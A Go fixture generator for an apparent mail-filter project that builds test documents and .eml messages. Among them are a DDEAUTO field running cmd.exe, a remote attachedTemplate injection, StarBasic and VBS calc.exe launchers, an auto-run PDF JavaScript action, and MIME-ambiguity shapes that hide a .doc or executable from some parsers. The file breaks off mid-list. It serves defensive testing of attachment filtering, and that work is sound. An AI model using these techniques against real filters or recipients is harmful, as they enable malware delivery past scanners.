// Command gen writes officemilter's own test fixtures:
//
//	go run ./testdata/gen files   # synthetic files in testdata/files
//	go run ./testdata/gen eml     # the messages in testdata/eml
//
// Run from the repository root; testdata/files/make-fixtures.sh runs the
// whole chain (LibreOffice, msoffcrypto-tool, qpdf, zip, 7z and this).
// Output is deterministic: fixed dates, boundaries and message IDs.
package main

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"mime"
	"mime/quotedprintable"
	"os"
	"path/filepath"
	"strings"

	"github.com/officemilter/officemilter/inspect/inspecttest"
	ox "github.com/officemilter/officemilter/inspect/officexml/officexmltest"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: go run ./testdata/gen files|eml")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "files":
		files()
	case "eml":
		emls()
	default:
		fmt.Fprintln(os.Stderr, "usage: go run ./testdata/gen files|eml")
		os.Exit(2)
	}
}

func read(path string) []byte {
	b, err := os.ReadFile(path)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	return b
}

func write(path string, b []byte) {
	if err := os.WriteFile(path, b, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

// files writes the synthetic documents derived from the LibreOffice ones.
func files() {
	dir := "testdata/files"
	docx := read(filepath.Join(dir, "letter.docx"))
	odt := read(filepath.Join(dir, "letter.odt"))
	write(filepath.Join(dir, "invoice.docm"), inspecttest.Must(inspecttest.Docm(docx)))
	write(filepath.Join(dir, "macro.doc"), inspecttest.Doc(true))
	write(filepath.Join(dir, "encrypted.doc"), inspecttest.EncryptedDoc())
	write(filepath.Join(dir, "setup.exe"), inspecttest.PE())
	// Remote template injection: settings.xml.rels points attachedTemplate
	// at a web server ([ECMA-376] Part 1 17.15.1.6).
	write(filepath.Join(dir, "template-injection.docx"), inspecttest.Must(inspecttest.EditZip(docx, func(name string, data []byte) []byte {
		if name == "word/_rels/document.xml.rels" {
			return data
		}
		return data
	}, map[string][]byte{"word/_rels/settings.xml.rels": []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` +
		`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="rId1337" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ` +
		`Target="http://templates.example.invalid/normal.dotm" TargetMode="External"/></Relationships>`)})))
	// A DDEAUTO field in the body ([MS-DOC] field codes, OOXML w:instrText).
	write(filepath.Join(dir, "dde.docx"), inspecttest.Must(inspecttest.EditZip(docx, func(name string, data []byte) []byte {
		if name != "word/document.xml" {
			return data
		}
		field := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
		return []byte(strings.Replace(string(data), "<w:body>", "<w:body>"+field, 1))
	}, nil)))
	// An ODF Basic library with code, as LibreOffice stores it.
	write(filepath.Join(dir, "basic.odt"), inspecttest.Must(inspecttest.EditZip(odt, func(name string, data []byte) []byte {
		if name != "META-INF/manifest.xml" {
			return data
		}
		entries := `<manifest:file-entry manifest:full-path="Basic/script-lc.xml" manifest:media-type="text/xml"/>` +
			`<manifest:file-entry manifest:full-path="Basic/Standard/script-lb.xml" manifest:media-type="text/xml"/>` +
			`<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>`
		return []byte(strings.Replace(string(data), "</manifest:manifest>", entries+"</manifest:manifest>", 1))
	}, map[string][]byte{
		"Basic/script-lc.xml":          []byte(`<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`),
		"Basic/Standard/script-lb.xml": []byte(`<?xml version="1.0" encoding="UTF-8"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`),
		"Basic/Standard/Module1.xml": []byte(`<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
  Shell("calc.exe")
End Sub
</script:module>`),
	})))
	// A PDF that runs JavaScript when opened (ISO 32000-1 12.6.3, 12.6.4.16).
	write(filepath.Join(dir, "javascript.pdf"), jsPDF())
	write(filepath.Join(dir, "run.vbs"), []byte("Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\"\r\n"))
	officeShells(dir)
}

// officeShells writes the XML and MIME shells Word and Excel open as
// documents, with the VBA project of inspecttest in them: Word 2003 XML
// (editdata.mso as ActiveMime in w:binData), Excel 2003 XML, Flat OPC
// (vbaProject.bin in pkg:binaryData) for Word, Excel and PowerPoint, an MHT
// with an ActiveMime part saved as .doc, and a bare ActiveMime blob.
func officeShells(dir string) {
	write(filepath.Join(dir, "word2003-macro.xml"), ox.WordXML(true))
	write(filepath.Join(dir, "word2003-macro.doc"), ox.WordXML(true))
	write(filepath.Join(dir, "excel2003.xml"), ox.ExcelXML())
	write(filepath.Join(dir, "flatopc-word-macro.xml"), ox.FlatOPC(ox.Word, true))
	write(filepath.Join(dir, "flatopc-excel-macro.xml"), ox.FlatOPC(ox.Excel, true))
	write(filepath.Join(dir, "flatopc-powerpoint-macro.xml"), ox.FlatOPC(ox.PowerPoint, true))
	write(filepath.Join(dir, "mht-macro.doc"), ox.MHT(true))
	write(filepath.Join(dir, "editdata.mso"), ox.ActiveMime(ox.VBAProject()))
}

func jsPDF() []byte {
	return inspecttest.PDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
		"<< /Type /Action /S /JavaScript /JS (app.alert\\('officemilter test'\\);) >>",
	)
}

// ---- messages ----

const crlf = "\r\n"

type part struct {
	header []string
	body   string
}

func (p part) String() string {
	return strings.Join(p.header, crlf) + crlf + crlf + p.body
}

var boundaryN int

func multipart(sub string, parts ...part) part {
	boundaryN++
	b := fmt.Sprintf("----=_officemilter_test_%03d", boundaryN)
	var body strings.Builder
	body.WriteString("This is a multi-part message in MIME format." + crlf)
	for _, p := range parts {
		body.WriteString(crlf + "--" + b + crlf + p.String())
	}
	body.WriteString(crlf + "--" + b + "--" + crlf)
	return part{header: []string{fmt.Sprintf("Content-Type: multipart/%s; boundary=\"%s\"", sub, b)}, body: body.String()}
}

func text(s string) part {
	return part{header: []string{"Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: quoted-printable"}, body: qp(s)}
}

func qp(s string) string {
	var b bytes.Buffer
	w := quotedprintable.NewWriter(&b)
	w.Write([]byte(strings.ReplaceAll(s, "\n", crlf)))
	w.Close()
	return b.String() + crlf
}

func b64(data []byte) string {
	enc := base64.StdEncoding.EncodeToString(data)
	var b strings.Builder
	for len(enc) > 76 {
		b.WriteString(enc[:76] + crlf)
		enc = enc[76:]
	}
	b.WriteString(enc + crlf)
	return b.String()
}

// attach returns a base64 attachment; non-ASCII names get RFC 2231.
func attach(name, ctype string, data []byte) part {
	disp := fmt.Sprintf("attachment; filename=\"%s\"", name)
	ct := fmt.Sprintf("%s; name=\"%s\"", ctype, name)
	if !ascii(name) {
		enc := strings.ReplaceAll(strings.ReplaceAll(quoteRFC2231(name), "%20", " "), " ", "%20")
		disp = "attachment; filename*=utf-8''" + enc
		ct = fmt.Sprintf("%s; name=\"%s\"", ctype, mime.QEncoding.Encode("utf-8", name))
	}
	return part{header: []string{"Content-Type: " + ct, "Content-Transfer-Encoding: base64", "Content-Disposition: " + disp}, body: b64(data)}
}

func ascii(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= 0x80 {
			return false
		}
	}
	return true
}

func quoteRFC2231(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x80 && (c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("._-", c) >= 0) {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

var msgN int

// message builds a whole message to rcpt with the given top-level part.
func message(rcpt, subject string, extra []string, body part) []byte {
	msgN++
	h := []string{
		"Return-Path: <erika.mustermann@example.com>",
		"From: Erika Mustermann <erika.mustermann@example.com>",
		"To: <" + rcpt + ">",
		"Subject: " + mime.QEncoding.Encode("utf-8", subject),
		"Date: Fri, 27 Nov 2026 10:00:00 +0100",
		fmt.Sprintf("Message-ID: <test-%03d@example.com>", msgN),
	}
	h = append(h, extra...)
	h = append(h, "MIME-Version: 1.0")
	h = append(h, body.header...)
	return []byte(strings.Join(h, crlf) + crlf + crlf + body.body)
}

const (
	everyone = "anna.schmidt@example.net"
	strict   = "strict@example.org"
)

func emls() {
	f := func(name string) []byte { return read(filepath.Join("testdata/files", name)) }
	doc, docx, xls, ppt := f("letter.doc"), f("letter.docx"), f("table.xls"), f("slides.ppt")
	pdf, odt, txt := f("letter.pdf"), f("letter.odt"), f("letter.txt")
	greeting := "Hallo,\n\nanbei die Unterlagen.\n\nViele Grüße\nErika\n"
	out := map[string][]byte{}
	add := func(name string, b []byte) { out[name] = b }
	mixed := func(parts ...part) part { return multipart("mixed", append([]part{text(greeting)}, parts...)...) }

	// Rule 1: legacy Office attachments are stripped for everyone.
	add("r1-01-text-only.eml", message(everyone, "Nur Text", nil, text(greeting)))
	add("r1-02-docx-kept.eml", message(everyone, "Bericht", nil, mixed(attach("Bericht.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx))))
	add("r1-03-doc-stripped.eml", message(everyone, "Bericht (alt)", nil, mixed(attach("Bericht.doc", "application/msword", doc))))
	add("r1-04-xls-stripped.eml", message(everyone, "Tabelle", nil, mixed(attach("Umsatz.xls", "application/vnd.ms-excel", xls))))
	add("r1-05-ppt-stripped.eml", message(everyone, "Folien", nil, mixed(attach("Folien.ppt", "application/vnd.ms-powerpoint", ppt))))
	add("r1-06-doc-and-docx.eml", message(everyone, "Beides", nil, mixed(attach("alt.doc", "application/msword", doc), attach("neu.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx))))
	add("r1-07-doc-renamed-pdf.eml", message(everyone, "Getarnt", nil, mixed(attach("Rechnung.pdf", "application/pdf", doc))))
	add("r1-08-docx-named-doc.eml", message(everyone, "Falscher Name", nil, mixed(attach("Vertrag.doc", "application/msword", docx))))
	inner := message(everyone, "Weitergeleitet", nil, mixed(attach("inner.doc", "application/msword", doc)))
	add("r1-09-doc-in-forwarded-message.eml", message(everyone, "Fwd: Weitergeleitet", nil, mixed(part{header: []string{"Content-Type: message/rfc822", "Content-Disposition: inline"}, body: string(inner)})))
	html := part{header: []string{"Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: quoted-printable"}, body: qp("<p>Hallo,</p><p>anbei die Unterlagen.</p>")}
	alt := multipart("alternative", text(greeting), html)
	add("r1-10-doc-deeply-nested.eml", message(everyone, "Verschachtelt", nil, multipart("mixed", multipart("related", alt), multipart("mixed", attach("tief.doc", "application/msword", doc)))))
	add("r1-11-rfc2231-latin1-name.eml", message(everyone, "Umlaute", nil, mixed(part{header: []string{
		"Content-Type: application/msword",
		"Content-Transfer-Encoding: base64",
		"Content-Disposition: attachment; filename*=iso-8859-1''Pr%FCfbericht%20%DCbersicht.doc"}, body: b64(doc)})))
	add("r1-12-rfc2047-name.eml", message(everyone, "Kodierter Name", nil, mixed(part{header: []string{
		"Content-Type: application/msword; name=\"=?utf-8?B?R2VzY2jDpGZ0c2JlcmljaHQuZG9j?=\"",
		"Content-Transfer-Encoding: base64",
		"Content-Disposition: attachment; filename=\"=?utf-8?B?R2VzY2jDpGZ0c2JlcmljaHQuZG9j?=\""}, body: b64(doc)})))
	signed := multipart("signed", mixed(attach("signiert.doc", "application/msword", doc)),
		part{header: []string{"Content-Type: application/pkcs7-signature; name=\"smime.p7s\"", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment; filename=\"smime.p7s\""}, body: b64([]byte("\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02 test signature, not verifiable"))})
	signed.header[0] = strings.Replace(signed.header[0], "multipart/signed;", "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256;", 1)
	add("r1-13-smime-signed-doc.eml", message(everyone, "Signiert", nil, signed))
	add("r1-14-dkim-signed-xls.eml", message(everyone, "DKIM", []string{"DKIM-Signature: v=1; a=rsa-sha256; d=example.com; s=mail; h=from:to:subject; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=; b=dGVzdA=="}, mixed(attach("Liste.xls", "application/vnd.ms-excel", xls))))
	add("r1-15-tnef-with-doc.eml", message(everyone, "Outlook", nil, mixed(attach("winmail.dat", "application/ms-tnef", tnef(map[string][]byte{"quartal.doc": doc, "notiz.txt": txt})))))
	add("r1-16-uuencoded-doc.eml", message(everyone, "uuencode", nil, part{header: []string{"Content-Type: text/plain; charset=us-ascii"}, body: "Hallo,\r\n\r\nanbei.\r\n\r\n" + uuencode("alt.doc", doc)}))
	add("r1-17-missing-close-delimiter.eml", missingClose(message(everyone, "Ohne Ende", nil, mixed(attach("offen.doc", "application/msword", doc)))))
	add("r1-18-truncated-base64.eml", truncate(message(everyone, "Abgeschnitten", nil, mixed(attach("kaputt.doc", "application/msword", doc))), 4000))
	add("r1-19-multipart-without-boundary.eml", message(everyone, "Ohne Boundary", nil, part{header: []string{"Content-Type: multipart/mixed"}, body: "--x\r\nContent-Type: application/msword\r\n\r\nnot seen\r\n--x--\r\n"}))
	add("r1-20-doc-in-zip.eml", message(everyone, "Archiv", nil, mixed(attach("Archiv.zip", "application/zip", f("legacy.zip")))))
	add("r1-21-encrypted-zip.eml", message(everyone, "Verschlüsselt", nil, mixed(attach("geheim.zip", "application/zip", f("secret.zip")))))
	add("r1-22-exe-not-in-rule-1.eml", message(everyone, "Programm", nil, mixed(attach("setup.exe", "application/octet-stream", f("setup.exe")))))
	add("r1-23-windows-1252-8bit.eml", message(everyone, "Zeichensatz", nil, part{header: []string{"Content-Type: text/plain; charset=windows-1252", "Content-Transfer-Encoding: 8bit"}, body: "Gr\xfc\xdfe aus K\xf6ln\r\n"}))
	add("r1-24-message-partial.eml", message(everyone, "Teil 1", nil, part{header: []string{"Content-Type: message/partial; id=\"abc@example.com\"; number=1; total=2"}, body: "From: x@example.com\r\nSubject: part\r\n\r\nfirst half\r\n"}))
	pgp := multipart("encrypted",
		part{header: []string{"Content-Type: application/pgp-encrypted"}, body: "Version: 1\r\n"},
		part{header: []string{"Content-Type: application/octet-stream; name=\"encrypted.asc\""}, body: "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0Zk1JzW5b1mAQf/test\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n"})
	pgp.header[0] = strings.Replace(pgp.header[0], "multipart/encrypted;", "multipart/encrypted; protocol=\"application/pgp-encrypted\";", 1)
	add("r1-25-pgp-encrypted.eml", message(everyone, "PGP", nil, pgp))
	add("r1-26-single-part-doc.eml", message(everyone, "Nur Anhang", nil, attach("einzeln.doc", "application/msword", doc)))
	add("r1-27-xls-velvetsweatshop.eml", message(everyone, "Schreibschutz", nil, mixed(attach("Liste.xls", "application/vnd.ms-excel", read("inspect/ole/offcrypto/testdata/rc4_velvet.xls")))))

	// Rule 2: the strict mailbox.
	add("r2-01-pdf-accepted.eml", message(strict, "Antrag", nil, mixed(attach("Antrag.pdf", "application/pdf", pdf))))
	add("r2-02-docx-accepted.eml", message(strict, "Antrag", nil, mixed(attach("Antrag.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx))))
	add("r2-03-odt-accepted.eml", message(strict, "Antrag", nil, mixed(attach("Antrag.odt", "application/vnd.oasis.opendocument.text", odt))))
	add("r2-04-txt-accepted.eml", message(strict, "Antrag", nil, mixed(attach("Antrag.txt", "text/plain", txt))))
	add("r2-05-doc-accepted.eml", message(strict, "Antrag", nil, mixed(attach("Antrag.doc", "application/msword", doc))))
	add("r2-06-docm-rejected.eml", message(strict, "Rechnung", nil, mixed(attach("Rechnung.docm", "application/vnd.ms-word.document.macroEnabled.12", f("invoice.docm")))))
	add("r2-07-xlsx-not-allowed.eml", message(strict, "Tabelle", nil, mixed(attach("Umsatz.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", f("table.xlsx")))))
	add("r2-08-zip-not-allowed.eml", message(strict, "Archiv", nil, mixed(attach("Unterlagen.zip", "application/zip", f("docs.zip")))))
	add("r2-09-password-docx.eml", message(strict, "Geschützt", nil, mixed(attach("Vertrag.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", f("letter-Passw0rd.docx")))))
	add("r2-10-password-pdf.eml", message(strict, "Geschützt", nil, mixed(attach("Bescheid.pdf", "application/pdf", f("letter-userpw.pdf")))))
	add("r2-11-owner-only-pdf-protected.eml", message(strict, "Nur Rechte", nil, mixed(attach("Bescheid.pdf", "application/pdf", f("letter-owneronly.pdf")))))
	add("r2-12-javascript-pdf.eml", message(strict, "Formular", nil, mixed(attach("Formular.pdf", "application/pdf", f("javascript.pdf")))))
	add("r2-13-exe-named-pdf.eml", message(strict, "Rechnung", nil, mixed(attach("Rechnung.pdf", "application/pdf", f("setup.exe")))))
	add("r2-14-vbs-script.eml", message(strict, "Skript", nil, mixed(attach("start.vbs", "text/plain", f("run.vbs")))))
	add("r2-15-doc-with-macros.eml", message(strict, "Makro", nil, mixed(attach("Makro.doc", "application/msword", f("macro.doc")))))
	add("r2-16-encrypted-doc.eml", message(strict, "Kennwort", nil, mixed(attach("Kennwort.doc", "application/msword", f("encrypted.doc")))))
	add("r2-17-template-injection.eml", message(strict, "Vorlage", nil, mixed(attach("Antrag.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", f("template-injection.docx")))))
	add("r2-18-dde-docx.eml", message(strict, "Feld", nil, mixed(attach("Antrag.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", f("dde.docx")))))
	add("r2-19-odt-basic-macro.eml", message(strict, "Basic", nil, mixed(attach("Antrag.odt", "application/vnd.oasis.opendocument.text", f("basic.odt")))))
	add("r2-20-rtf-not-allowed.eml", message(strict, "RTF", nil, mixed(attach("Antrag.rtf", "application/rtf", f("letter.rtf")))))
	add("r2-21-inline-image-not-allowed.eml", message(strict, "Mit Logo", nil, multipart("related", html, part{header: []string{"Content-Type: image/png", "Content-Transfer-Encoding: base64", "Content-ID: <logo@example.com>", "Content-Disposition: inline"}, body: b64(pngPixel())})))
	add("r2-22-smime-signed-pdf-accepted.eml", message(strict, "Signiert", nil, func() part {
		p := multipart("signed", mixed(attach("Antrag.pdf", "application/pdf", pdf)),
			part{header: []string{"Content-Type: application/pkcs7-signature; name=\"smime.p7s\"", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment; filename=\"smime.p7s\""}, body: b64([]byte("\x30\x80 test signature"))})
		p.header[0] = strings.Replace(p.header[0], "multipart/signed;", "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256;", 1)
		return p
	}()))
	add("r2-23-smime-enveloped.eml", message(strict, "Verschlüsselt", nil, part{header: []string{"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=\"smime.p7m\"", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment; filename=\"smime.p7m\""}, body: b64(envelopedData())}))
	fwd := message(strict, "Original", nil, mixed(attach("Rechnung.docm", "application/vnd.ms-word.document.macroEnabled.12", f("invoice.docm"))))
	add("r2-24-docm-in-attached-message.eml", message(strict, "Fwd: Original", nil, mixed(part{header: []string{"Content-Type: message/rfc822", "Content-Disposition: attachment; filename=\"original.eml\""}, body: string(fwd)})))
	add("r2-25-7z-encrypted-headers.eml", message(strict, "7z", nil, mixed(attach("Unterlagen.7z", "application/x-7z-compressed", f("secret.7z")))))
	add("r2-26-pdf-embedded-exe.eml", message(strict, "Anhang im PDF", nil, mixed(attach("Antrag.pdf", "application/pdf", read("inspect/pdf/testdata/embedded_mz.pdf")))))
	add("r2-27-velvetsweatshop-docm.eml", message(strict, "Schreibschutz", nil, mixed(attach("Antrag.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", f("invoice-velvet.docm")))))
	add("r2-28-two-clean-attachments.eml", message(strict, "Zwei", nil, mixed(attach("Antrag.pdf", "application/pdf", pdf), attach("Anlage.odt", "application/vnd.oasis.opendocument.text", odt))))
	add("r2-29-nested-zip-docm.eml", message(strict, "Archiv im Archiv", nil, mixed(attach("aussen.zip", "application/zip", f("nested.zip")))))
	add("r2-30-qp-text-no-attachment.eml", message(strict, "Nur Text", nil, text("Eine Nachricht ohne Anhang: Größe egal.\n")))

	// One message, one reading: the same bytes shaped so that readers
	// disagree on what the message holds. Each is written twice, hiding
	// the legacy .doc (rule 1) and a PE executable (rule 2).
	for i, a := range ambiguous() {
		add(fmt.Sprintf("r1-%02d-%s.eml", 28+i, a.name), a.build(everyone, hidden{"Bericht.doc", "application/msword", doc}))
		add(fmt.Sprintf("r2-%02d-%s.eml", 31+i, a.name), a.build(strict, hidden{"setup.exe", "application/octet-stream", inspecttest.PE()}))
	}

	// The carriers attackers moved to after Office blocked macros from the
	// internet in 2022: each written twice, to rule 1 and to the strict
	// mailbox, with the same attachment.
	for i, c := range carriers() {
		add(fmt.Sprintf("r1-%02d-%s.eml", 53+i, c.name), message(everyone, c.subject, nil, mixed(attach(c.file, c.ctype, c.data))))
		add(fmt.Sprintf("r2-%02d-%s.eml", 56+i, c.name), message(strict, c.subject, nil, mixed(attach(c.file, c.ctype, c.data))))
	}

	// Documents a password guards against editing, which the strict
	// mailbox refuses (protected), and signed documents as an authority
	// sends them: each written twice, to rule 1 and to the strict mailbox.
	for i, a := range protectedAndSigned() {
		add(fmt.Sprintf("r1-%02d-%s.eml", 72+i, a.name), message(everyone, a.subject, nil, mixed(a.parts...)))
		add(fmt.Sprintf("r2-%02d-%s.eml", 75+i, a.name), message(strict, a.subject, nil, mixed(a.parts...)))
	}

	for name, b := range out {
		write(filepath.Join("testdata/eml", name), b)
	}
	fmt.Printf("wrote %d messages to testdata/eml\n", len(out))
}

func missingClose(b []byte) []byte {
	i := bytes.LastIndex(b, []byte("--"+crlf))
	if i < 0 {
		return b
	}
	j := bytes.LastIndex(b[:i], []byte(crlf+"--"))
	return append(append([]byte(nil), b[:j]...), crlf...)
}

func truncate(b []byte, cut int) []byte {
	if cut >= len(b) {
		return b
	}
	return append(append([]byte(nil), b[:len(b)-cut]...), crlf...)
}

// uuencode encodes data as a classic "begin 644 name" block.
func uuencode(name string, data []byte) string {
	var b strings.Builder
	fmt.Fprintf(&b, "begin 644 %s\r\n", name)
	enc := func(v byte) byte {
		if v == 0 {
			return '`'
		}
		return v + 32
	}
	for len(data) > 0 {
		n := min(45, len(data))
		line := data[:n]
		data = data[n:]
		b.WriteByte(enc(byte(n)))
		for i := 0; i < n; i += 3 {
			var c [3]byte
			copy(c[:], line[i:min(i+3, n)])
			b.WriteByte(enc(c[0] >> 2))
			b.WriteByte(enc((c[0]<<4 | c[1]>>4) & 0x3F))
			b.WriteByte(enc((c[1]<<2 | c[2]>>6) & 0x3F))
			b.WriteByte(enc(c[2] & 0x3F))
		}
		b.WriteString("\r\n")
	}
	b.WriteString("`\r\nend\r\n")
	return b.String()
}

// tnef writes a TNEF stream ([MS-OXTNEF] 2.1) with one attachment per
// entry: attAttachRenddata, attAttachTitle, attAttachData.
func tnef(files map[string][]byte) []byte {
	var b bytes.Buffer
	le := binary.LittleEndian
	b.Write(le.AppendUint32(nil, 0x223E9F78))
	b.Write(le.AppendUint16(nil, 0x0001))
	attr := func(level byte, id uint32, data []byte) {
		b.WriteByte(level)
		b.Write(le.AppendUint32(nil, id))
		b.Write(le.AppendUint32(nil, uint32(len(data))))
		b.Write(data)
		var sum uint16
		for _, c := range data {
			sum += uint16(c)
		}
		b.Write(le.AppendUint16(nil, sum))
	}
	attr(1, 0x00089006, le.AppendUint32(nil, 0x00010000)) // attTnefVersion
	attr(1, 0x00069007, []byte("IPM.Microsoft Mail.Note\x00"))
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sortStrings(names)
	for _, n := range names {
		attr(2, 0x00069002, make([]byte, 14)) // attAttachRenddata
		attr(2, 0x00018010, []byte(n+"\x00")) // attAttachTitle
		attr(2, 0x0006800F, files[n])         // attAttachData
	}
	return b.Bytes()
}

func sortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

// pngPixel is a 1x1 transparent PNG.
func pngPixel() []byte {
	b, _ := base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
	return b
}

// envelopedData is the start of a CMS ContentInfo with the envelopedData
// content type (RFC 5652 6.1): enough to be recognised as encrypted.
func envelopedData() []byte {
	oid := []byte{0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x03}
	inner := append([]byte{0xa0, 0x80, 0x30, 0x80, 0x02, 0x01, 0x00}, bytes.Repeat([]byte{0x42}, 64)...)
	inner = append(inner, 0, 0, 0, 0)
	body := append(append([]byte{}, oid...), inner...)
	return append(append([]byte{0x30, 0x80}, body...), 0, 0)
}

// ---- one message, one reading ----

// hidden is the file an ambiguous message hides from some of its readers.
type hidden struct {
	name, ctype string
	data        []byte
}

// ambiguity is one shape that readers read differently; build writes it to
// rcpt with h as the part that only some readings show.
type ambiguity struct {
	name  string
	build func(rcpt string, h hidden) []byte
}

const ambText = "Content-Type: text/plain; charset=utf-8" + crlf + crlf + "Hallo," + crlf + crlf + "anbei die Unterlagen." + crlf

// headers returns the header lines of h as a base64 attachment.
func (h hidden) headers() []string {
	return []string{
		fmt.Sprintf("Content-Type: %s; name=\"%s\"", h.ctype, h.name),
		"Content-Transfer-Encoding: base64",
		fmt.Sprintf("Content-Disposition: attachment; filename=\"%s\"", h.name),
	}
}

// part returns h as a whole base64 body part (header, blank line, body).
func (h hidden) part() string {
	return strings.Join(h.headers(), crlf) + crlf + crlf + b64(h.data)
}

// delimited joins parts with the delimiter of boundary b and closes it.
func delimited(b string, parts ...string) string {
	var s strings.Builder
	for _, p := range parts {
		s.WriteString("--" + b + crlf + p + crlf)
	}
	s.WriteString("--" + b + "--" + crlf)
	return s.String()
}

func ambiguous() []ambiguity {
	const x, y = "outer-x", "outer-y"
	subject := func(name string) string { return "Mehrdeutig: " + name }
	// msg builds a message whose top-level MIME header lines are ct.
	msg := func(rcpt, name string, ct []string, body string) []byte {
		return message(rcpt, subject(name), nil, part{header: ct, body: body})
	}
	// xy is a body that reads as a text part under boundary x and as the
	// hidden part under boundary y (the ClamAV regression sample shape).
	xy := func(h hidden) string {
		return "--" + x + crlf + ambText + crlf + delimited(y, h.part()) + "--" + x + "--" + crlf
	}
	// yBody is a plain multipart body under boundary y: text, hidden.
	yBody := func(h hidden) string { return delimited(y, ambText, h.part()) }
	mixedY := "Content-Type: multipart/mixed; boundary=\"" + y + "\""
	return []ambiguity{
		{"two-boundary-params", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "two-boundary-params", []string{"Content-Type: multipart/mixed; boundary=\"" + x + "\"; boundary=\"" + y + "\""}, xy(h))
		}},
		{"boundary-rfc2231-beside-plain", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "boundary-rfc2231-beside-plain", []string{"Content-Type: multipart/mixed; boundary=\"" + x + "\"; boundary*=utf-8''" + y}, xy(h))
		}},
		{"two-content-type-fields", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "two-content-type-fields", []string{"Content-Type: text/plain; charset=utf-8", mixedY}, yBody(h))
		}},
		{"content-type-name-comment", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "content-type-name-comment", []string{"Content-Type(meow): multipart/mixed; boundary=\"" + y + "\""}, yBody(h))
		}},
		{"content-type-space-before-colon", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "content-type-space-before-colon", []string{"Content-Type : multipart/mixed; boundary=\"" + y + "\""}, yBody(h))
		}},
		{"two-transfer-encodings", func(rcpt string, h hidden) []byte {
			p := strings.Join([]string{
				fmt.Sprintf("Content-Type: %s; name=\"%s\"", h.ctype, h.name),
				"Content-Transfer-Encoding: 7bit",
				"Content-Transfer-Encoding: base64",
				fmt.Sprintf("Content-Disposition: attachment; filename=\"%s\"", h.name),
			}, crlf) + crlf + crlf + b64(h.data)
			return msg(rcpt, "two-transfer-encodings", []string{mixedY}, delimited(y, ambText, p))
		}},
		{"two-dispositions", func(rcpt string, h hidden) []byte {
			p := strings.Join([]string{
				"Content-Type: application/octet-stream",
				"Content-Transfer-Encoding: base64",
				"Content-Disposition: attachment; filename=\"Hinweis.txt\"",
				fmt.Sprintf("Content-Disposition: attachment; filename=\"%s\"", h.name),
			}, crlf) + crlf + crlf + b64(h.data)
			return msg(rcpt, "two-dispositions", []string{mixedY}, delimited(y, ambText, p))
		}},
		{"delimiter-with-junk", func(rcpt string, h hidden) []byte {
			body := "--" + y + crlf + ambText + crlf + "--" + y + "junk" + crlf + h.part() + crlf + "--" + y + "--" + crlf
			return msg(rcpt, "delimiter-with-junk", []string{mixedY}, body)
		}},
